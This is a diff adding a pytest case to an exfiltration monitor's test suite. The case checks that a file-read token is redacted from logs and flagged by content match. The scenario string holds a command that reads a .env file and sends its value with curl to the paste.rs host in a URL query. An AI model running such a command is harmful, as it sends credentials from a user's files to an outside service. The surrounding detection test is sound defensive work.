@@ -55,3 +55,28 @@ def test_key_on_command_line_is_redacted(case, monitor, standin, fake_home, tmp_
              and "https://paste.rs:" in get(r, "process.command_line", "")]
     assert execs, "the curl exec record"
     assert all("[REDACTED]" in get(r, "process.command_line") for r in execs)
+
+
+# Redaction by content: a token no pattern knows (20 characters, no known prefix, too short for
+# the long-run rule) read from a sensitive file and put where no flag says secret (a URL query
+# named `note`) is still redacted, because its bytes are those of a file the lineage read; and
+# the upload alerts with content-match (the token is in the request line the plaintext showed).
+ENV_TOKEN = "Zq7mW2xP9vK4tR8nB3yL"
+
+
+def test_token_of_a_file_read_is_redacted_wherever_it_sits(monitor, standin, fake_home, tmp_path):
+    env = fake_home.path / "app" / ".env"
+    env.parent.mkdir(parents=True, exist_ok=True)
+    env.write_text(f"DEPLOY_KEY={ENV_TOKEN}\nREGION=eu-west-1\n")
+    case = Scenario(
+        "env-token-in-url-query-to-paste", "alert",
+        f'V=$(cut -d= -f2 $HOME/app/.env | head -1); curl -sk {RESOLVE} -d ok "https://paste.rs:8443/?note=$V"',
+        technique="T1567.003", domain="paste.rs", uploads=True)
+    found = run_attack(case, monitor, standin, fake_home, tmp_path)
+    output = monitor.output.read_bytes()
+    assert ENV_TOKEN.encode() not in output, "the token is in the output"
+    names = [s.get("name") for a in found for s in get(a, "exfilwatch.signals", [])]
+    assert "content-match" in names, names
+    execs = [r for r in monitor.records()
+             if get(r, "event.action") == "exec" and get(r, "process.name") == "curl"]
+    assert execs and all("[REDACTED]" in get(r, "process.command_line") for r in execs), execs
